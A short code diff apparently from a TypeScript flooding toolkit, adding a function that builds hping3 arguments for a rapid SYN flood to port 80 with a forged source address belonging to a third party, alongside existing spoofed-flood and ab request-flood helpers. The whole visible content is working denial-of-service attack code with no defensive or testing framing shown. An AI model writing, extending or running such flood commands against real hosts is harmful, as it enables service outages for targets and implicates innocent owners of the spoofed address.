@@ -35,6 +35,21 @@ export const spoofedFlood = (target: string): string[] => [
   target,
 ];
 
+/** Every packet from this address, which is somebody else's. */
+export const floodInTheNameOf = (forged: string, target: string): string[] => [
+  'hping3',
+  '-q',
+  '-n',
+  '-S',
+  '-p',
+  '80',
+  '-i',
+  'u1000',
+  '-a',
+  forged,
+  target,
+];
+
 /** Requests as fast as the server answers. */
 export const requestFlood = (target: string): string[] => [
   'ab',
